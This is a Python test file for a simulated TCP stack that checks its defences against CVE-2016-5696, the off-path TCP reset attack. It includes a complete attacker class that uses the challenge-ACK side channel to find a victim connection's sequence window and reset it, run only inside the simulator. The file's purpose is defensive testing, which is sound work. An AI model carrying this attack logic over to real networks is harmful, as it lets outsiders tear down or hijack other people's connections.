"""The off-path reset of CVE-2016-5696 (Cao et al., "Off-Path TCP Exploits: Global Rate Limit
Considered Dangerous", USENIX Security 2016) against the challenge ACKs of RFC 5961.

The attacker knows only the 4-tuple of an idle connection between a victim client and the
server. It opens a connection of its own to the server and uses the host-wide challenge-ACK
budget (RFC 5961 §7) as a side channel: in one second it sends spoofed RSTs into the victim's
4-tuple, then as many in-window RSTs on its own connection as the budget allows, and counts the
challenge ACKs that come back. One short means one spoofed RST fell in the victim's receive
window. A binary search finds the window, then RCV.NXT, and an exact RST resets the victim.

Linux's answer (4.7, 2016): challenge ACKs rate-limited per connection (``tcp_invalid_ratelimit``)
and a host-wide budget drawn at random every second; this stack does the same (TcpLayer).
"""

from __future__ import annotations

import pytest

from stacklab.stack.tcp.config import TcpConfig
from stacklab.stack.tcp.fsm import CLOSED, ESTABLISHED
from stacklab.stack.tcp.tcb import Tcb
from stacklab.wire.tcp import ACK, RST

from .tcp_lab import Lab

VICTIM_IP = bytes([10, 0, 0, 2])
VICTIM_PORT = 40000
ATTACKER_IP = bytes([10, 0, 0, 66])
# what the attack needed before the fix (seed 1): 29.1 s of virtual time and 46.4k segments
# with one connection of its own, 50.4k with 2000 (256 KiB window); against Linux's 64 KiB
# initial window ~25 s and ~67k segments with the mitigations off; the attacker gets more
TIME_BUDGET = 35.0
PACKET_BUDGET = 100_000


class OffPathAttacker:
    """The attack of the paper, with ``own`` connections of the attacker to the server."""

    def __init__(self, lab: Lab, own: list[Tcb]) -> None:
        self.lab = lab
        self.own = own
        self.burst = 0  # in-window RSTs per second on the attacker's connections

    def measure(self, probes: list[int], burst: int) -> int:
        """At the start of the next second: the spoofed RSTs ``probes`` (sequence numbers) into
        the victim's 4-tuple, then ``burst`` in-window RSTs on the attacker's own connections;
        how many challenge ACKs came back to the attacker."""
        lab = self.lab
        lab.run(until=int(lab.now) + 1.1)
        for seq in probes:
            lab.inject(VICTIM_IP, VICTIM_PORT, seq, 0, RST)
        own = self.own
        for k in range(burst):
            conn = own[k % len(own)]
            lab.inject(ATTACKER_IP, conn.local_port, conn.snd_nxt + 1 + k, 0, RST)
        back = [v for v in lab.take_sent(ATTACKER_IP) if v.flags & ACK and not v.flags & RST]
        lab.exchange()
        return len(back)

    def spent(self) -> bool:
        lab = self.lab
        return lab.injected >= PACKET_BUDGET or lab.now >= TIME_BUDGET

    def hit(self, probes: list[int]) -> bool:
        """A spoofed RST drew a challenge ACK from the victim: the budget came back short."""
        return self.measure(probes, self.burst) < self.burst

    def attack_once(self, victim: Tcb) -> None:
        window = self.own[0].snd_wnd  # the server's receive window, as the attacker sees it
        self.burst = self.measure([], 2 * len(self.own) + 2000)  # the budget, in a quiet second
        blocks = list(range(0, 1 << 32, window))  # one of them is inside the victim's window
        while len(blocks) > 1 and victim.state is ESTABLISHED and not self.spent():
            half = blocks[: len(blocks) // 2]
            blocks = half if self.hit(half) else blocks[len(half):]
        lo, hi = blocks[0] - window + 1, blocks[0]  # RCV.NXT is in (block - window, block]
        while lo < hi and victim.state is ESTABLISHED and not self.spent():
            mid = (lo + hi) // 2
            if self.hit([mid]):
                hi = mid
            else:
                lo = mid + 1
        self.lab.inject(VICTIM_IP, VICTIM_PORT, lo, 0, RST)

    def attack(self, victim: Tcb) -> bool:
        """Try until the victim is reset or the budget is spent; True if it was reset."""
        while victim.state is ESTABLISHED and not self.spent():
            self.attack_once(victim)
        return victim.state is CLOSED


def setup(config: TcpConfig | None = None, n_own: int = 1, seed: int = 1
          ) -> tuple[Lab, Tcb, Tcb, OffPathAttacker]:
    lab = Lab(seed=seed, config=config)
    client = lab.connect(VICTIM_IP, VICTIM_PORT)
    victim = lab.server_side(client)
    own = [lab.connect(ATTACKER_IP, 50000 + i) for i in range(n_own)]
    return lab, client, victim, OffPathAttacker(lab, own)


@pytest.mark.parametrize("n_own", [1, 2000], ids=["one-connection", "2000-connections"])
def test_the_off_path_reset_fails_within_the_budget_that_succeeded_before(n_own):
    lab, client, victim, attacker = setup(n_own=n_own)
    assert not attacker.attack(victim)
    assert attacker.spent()  # the whole budget was spent
    assert victim.state is ESTABLISHED
    lab.send(client, b"still here")  # and the connection still works
    assert victim.read() == b"still here"


def test_the_attack_succeeds_when_the_budget_can_be_counted():
    """The attack itself works: with the per-connection limit off (tcp_invalid_ratelimit = 0)
    and a budget of one challenge ACK a second (tcp_challenge_ack_limit = 1: nothing left to
    randomize), the side channel is back and the victim is reset."""
    lab, client, victim, attacker = setup(TcpConfig(invalid_ratelimit=0.0))
    lab.layer.challenge_ack_limit = 1
    assert attacker.attack(victim)
    # Linux's 64 KiB initial receive window (rcv_ssthresh) makes the victim's window a smaller
    # target than the 256 KiB buffer did: ~67k segments in ~25 s of virtual time
    assert lab.now < TIME_BUDGET and lab.injected < PACKET_BUDGET


def test_challenge_acks_are_limited_per_connection():
    """Linux tcp_invalid_ratelimit: at most one challenge ACK per 0.5 s per connection, the
    interval shared with the ACKs to out-of-window segments."""
    lab, client, victim, attacker = setup()
    for k in range(300):  # in-window, not exact: each asks for a challenge ACK
        lab.now = k * 0.01
        lab.inject(VICTIM_IP, VICTIM_PORT, victim.rcv_nxt + 1 + k, 0, RST)
    acks = lab.take_sent(VICTIM_IP)
    assert [v.ack for v in acks] == [victim.rcv_nxt] * 6  # at 0, 0.5 ... 2.5 s
    assert victim.stats.challenge_acks == 6 and victim.stats.challenge_acks_limited == 294
    assert victim.state is ESTABLISHED


def test_the_host_wide_budget_is_random_each_second_and_follows_the_seed():
    """Linux tcp_send_challenge_ack: each second the budget is drawn uniformly from
    [limit/2, limit*3/2) (tcp_challenge_ack_limit = 1000: 500..1499), from the host's seed."""
    def budgets(seed: int) -> list[int]:
        lab = Lab(seed=seed)
        layer = lab.layer
        out = []
        for second in range(40):
            n = 0
            while layer.challenge_ack_ok(second + 0.5):
                n += 1
            out.append(n)
        return out

    a = budgets(1)
    assert all(500 <= n <= 1499 for n in a)
    assert len(set(a)) > 30  # not countable: a new figure every second
    assert 800 < sum(a) / len(a) < 1200  # a thousand a second on average
    assert budgets(1) == a and budgets(2) != a
    lab = Lab()
    lab.layer.challenge_ack_limit = 0x7FFFFFFF  # INT_MAX: no host-wide budget (Linux >= 6.0)
    assert all(lab.layer.challenge_ack_ok(0.5) for _ in range(10_000))
